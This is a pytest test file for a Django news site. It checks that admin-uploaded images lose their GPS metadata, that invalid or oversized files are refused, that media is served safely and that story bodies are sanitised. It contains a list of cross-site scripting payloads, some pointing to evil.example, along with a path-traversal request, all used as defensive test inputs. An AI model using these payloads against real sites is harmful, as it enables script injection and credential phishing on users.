"""Images uploaded through the admin, and what a story body may contain on the public page."""

import io
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from milestones import images
from milestones.markdown import render_markdown
from milestones.models import Status, Story
from tests.factories import StoryFactory, UserFactory
from tests.milestones.test_editorial_workflow import story_form

pytestmark = pytest.mark.django_db

GPS_TAG = 0x8825
ORIENTATION_TAG = 0x0112


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def as_editor(client, django_capture_on_commit_callbacks):
    user = UserFactory(username="editor", is_staff=True)
    user.groups.add(Group.objects.get(name="Editor"))
    client.force_login(user)
    return client


def photo(kind="JPEG", size=(1800, 1200), *, gps=False, orientation=None, name=None):
    image = Image.new("RGB", size, (0, 120, 200))
    image.paste((250, 250, 250), (0, 0, size[0] // 3, size[1] // 2))  # a light block top-left
    exif = Image.Exif()
    if gps:
        exif[GPS_TAG] = {1: "N", 2: (41.0, 18.0, 0.0), 3: "E", 4: (69.0, 16.0, 0.0)}
        exif[0x010F] = "Camera maker"
    if orientation:
        exif[ORIENTATION_TAG] = orientation
    buffer = io.BytesIO()
    options = {"exif": exif.tobytes()} if (gps or orientation) and kind in ("JPEG", "WEBP", "PNG") else {}
    image.save(buffer, format=kind, **options)
    extension = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "GIF": "gif"}[kind]
    return SimpleUploadedFile(name or f"border-post.{extension}", buffer.getvalue(), content_type=f"image/{extension}")


def upload(client, file, **fields):
    data = story_form(image=file, image_alt="Officers at the Port Control Unit in Aktau", **fields)
    with_callbacks = client.post("/admin/milestones/story/add/", data)
    return with_callbacks


def stored(story):
    with story.image.open("rb") as handle:
        image = Image.open(io.BytesIO(handle.read()))
        image.load()
    return image


def test_gps_position_and_camera_data_are_removed(as_editor, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        assert upload(as_editor, photo(gps=True)).status_code == 302
    image = stored(Story.objects.get())
    assert not image.getexif()
    assert "exif" not in image.info


def test_exif_orientation_is_applied_before_metadata_goes(as_editor, django_capture_on_commit_callbacks):
    # Orientation 6: the camera was turned; the picture must be stored upright (portrait).
    with django_capture_on_commit_callbacks(execute=True):
        upload(as_editor, photo(size=(1800, 1200), orientation=6))
    story = Story.objects.get()
    assert (story.image_width, story.image_height) == (1200, 1800)
    assert stored(story).size == (1200, 1800)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_jpeg_png_and_webp_are_accepted_with_renditions_for_srcset(
    as_editor, client, kind, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        upload(as_editor, photo(kind=kind), status=Status.DRAFT)
    story = Story.objects.get()
    storage = story.image.storage
    for name in images.rendition_names(story.image.name, story.image_width):
        assert storage.exists(name), name
    page = as_editor.get(story.get_absolute_url()).content.decode()
    assert 'type="image/webp"' in page
    assert "480w" in page and "1600w" in page
    assert 'alt="Officers at the Port Control Unit in Aktau"' in page


def test_original_file_name_is_not_kept(as_editor):
    upload(as_editor, photo(name="gps-41.3N-69.2E-border-post-secret.jpg"))
    assert "secret" not in Story.objects.get().image.name


@pytest.mark.parametrize(
    ("file", "message"),
    [
        (SimpleUploadedFile("notes.png", b"This is a text file, not a picture.\n" * 20), "Upload a valid image"),
        (photo(kind="GIF"), "This is a GIF file; upload a JPEG, PNG or WebP image."),
    ],
    ids=["text-renamed-png", "gif"],
)
def test_wrong_kind_of_file_is_refused_with_a_reason(as_editor, file, message):
    response = upload(as_editor, file)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Story.objects.exists()


def test_truncated_image_is_refused(as_editor):
    whole = photo().read()
    response = upload(as_editor, SimpleUploadedFile("cut.jpg", whole[: len(whole) // 2]))
    assert response.status_code == 200
    assert "damaged or incomplete" in response.content.decode() or "Upload a valid image" in response.content.decode()
    assert not Story.objects.exists()


def test_decompression_bomb_is_refused(as_editor):
    buffer = io.BytesIO()
    Image.new("1", (9000, 9000)).save(buffer, format="PNG")  # tiny file, 81 million pixels
    response = upload(as_editor, SimpleUploadedFile("bomb.png", buffer.getvalue()))
    assert response.status_code == 200
    page = response.content.decode()
    assert "million pixels" in page or "too large to open safely" in page or "Upload a valid image" in page
    assert not Story.objects.exists()


def test_file_over_the_size_limit_is_refused(as_editor, settings):
    settings.IMAGE_UPLOAD_MAX_BYTES = 10_000
    response = upload(as_editor, photo())
    assert response.status_code == 200
    assert "images can be at most 9.8\xa0KB" in response.content.decode()
    assert not Story.objects.exists()


def test_image_needs_alt_text(as_editor):
    response = as_editor.post("/admin/milestones/story/add/", story_form(image=photo()))
    assert response.status_code == 200
    assert "Describe the image for readers who cannot see it." in response.content.decode()
    assert not Story.objects.exists()


def test_bad_upload_leaves_the_existing_story_and_image_untouched(as_editor, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        upload(as_editor, photo())
    story = Story.objects.get()
    before = (story.image.name, story.title, story.version)
    data = story_form(
        title="Changed",
        slug=story.slug,
        version_seen=str(story.version),
        image=SimpleUploadedFile("x.png", b"not an image"),
        image_alt=story.image_alt,
    )
    response = as_editor.post(reverse("admin:milestones_story_change", args=[story.pk]), data)
    assert response.status_code == 200
    story.refresh_from_db()
    assert (story.image.name, story.title, story.version) == before
    assert story.image.storage.exists(story.image.name)


def test_replacing_an_image_removes_the_old_files(as_editor, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        upload(as_editor, photo())
    story = Story.objects.get()
    old = [story.image.name, *images.rendition_names(story.image.name, story.image_width)]
    data = story_form(
        slug=story.slug, version_seen=str(story.version), image=photo(kind="PNG"), image_alt="A new picture"
    )
    with django_capture_on_commit_callbacks(execute=True):
        as_editor.post(reverse("admin:milestones_story_change", args=[story.pk]), data)
    story.refresh_from_db()
    assert story.image.name.endswith(".png")
    assert not any(story.image.storage.exists(name) for name in old)


def test_deleting_a_story_removes_its_image_files(as_editor, media, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        upload(as_editor, photo())
    story = Story.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        as_editor.post(reverse("admin:milestones_story_delete", args=[story.pk]), {"post": "yes"})
    assert not Story.objects.exists()
    assert not [path for path in media.rglob("*") if path.is_file()]


def test_uploaded_media_is_served_as_an_image_and_never_as_a_page(client, media):
    (media / "stories").mkdir(parents=True)
    (media / "stories" / "photo.webp").write_bytes(b"RIFF....WEBP")
    (media / "stories" / "page.html").write_text("<script>alert(1)</script>")
    (media / "stories" / "photo.svg").write_text("<svg onload=alert(1)></svg>")
    response = client.get("/media/stories/photo.webp")
    assert response["Content-Type"] == "image/webp"
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert client.get("/media/stories/page.html").status_code == 404
    assert client.get("/media/stories/photo.svg").status_code == 404
    assert client.get("/media/../settings.py").status_code == 404


# --- Sanitising story bodies ----------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert('xss')>",
    "<svg/onload=alert('xss')>",
    "<iframe src=javascript:alert('xss')></iframe>",
    "<a href=\"javascript:alert('xss')\">click</a>",
    "[click](javascript:alert('xss'))",
    "[click](JaVaScRiPt:alert('xss'))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">click</a>',
    "<div style=\"background:url(javascript:alert('xss'))\">styled</div>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    "<style>body{display:none}</style>",
    "<body onload=alert('xss')>",
    "<object data=\"javascript:alert('xss')\"></object>",
    "<embed src=\"javascript:alert('xss')\">",
    '<form action="https://evil.example"><input name=password></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "<<script>script>alert('xss')<</script>/script>",
    "<a href=\"&#106;avascript:alert('xss')\">encoded</a>",
    "<details open ontoggle=alert('xss')>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
]


SAFE_TAGS = {
    "p",
    "br",
    "strong",
    "em",
    "b",
    "i",
    "a",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h2",
    "h3",
    "h4",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "abbr",
    "sup",
    "sub",
    "hr",
}


class Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML (text is only text)."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_or_style_survives_in_a_story_body(client, payload):
    StoryFactory(slug="xss", body=f"Before.\n\n{payload}\n\nAfter.")
    page = client.get("/news/xss/").content.decode()
    body = page.split('<div class="prose">', 1)[1].split("</div>", 1)[0]
    assert "<p>Before.</p>" in body  # the story is still there, only the payload is gone
    parser = Elements()
    parser.feed(body)
    for tag, attributes in parser.found:
        assert tag in SAFE_TAGS, (payload, tag)
        assert not [name for name in attributes if name.startswith("on") or name == "style"], (payload, attributes)
        href = (attributes.get("href") or "").strip().lower()
        assert not href or href.startswith(("http://", "https://", "mailto:")), (payload, href)


def test_ordinary_markdown_survives_sanitising():
    html = render_markdown("**Bold**, *italic*, [UNODC](https://www.unodc.org/)\n\n- one\n- two")
    assert "<strong>Bold</strong>" in html
    assert "<em>italic</em>" in html
    assert '<a href="https://www.unodc.org/" rel="noopener noreferrer">UNODC</a>' in html
    assert "<li>one</li>" in html
